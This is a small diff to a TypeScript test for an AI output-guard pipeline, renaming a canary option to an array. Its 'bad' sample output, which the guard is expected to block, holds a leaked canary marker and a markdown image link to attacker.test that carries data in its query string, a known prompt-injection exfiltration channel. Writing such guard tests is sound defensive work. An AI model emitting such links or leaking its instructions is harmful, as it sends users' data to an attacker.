@@ -46,14 +46,14 @@ void describe('guard pipeline: one stage on one text', () => {
     const canary = canaryToken('run-1');
     const profile = guardProfileFor(config, 'support-desk').output;
     const clean = guardText('output', 'Your ticket is open; see https://help.example.com/t/1.', profile, {
-      canary,
+      canaries: [canary],
     });
     assert.deepEqual(clean.verdict, { stage: 'output', verdict: 'allow', reasons: [] });
     const bad = guardText(
       'output',
       `We will refund you. Marker ${canary}. ![x](https://attacker.test/p.png?d=1) Mail boss@corp.example.`,
       profile,
-      { canary, inputPiiValues: [] },
+      { canaries: [canary], inputPiiValues: [] },
     );
     assert.equal(bad.verdict.verdict, 'block');
     assert.deepEqual(bad.verdict.reasons, [
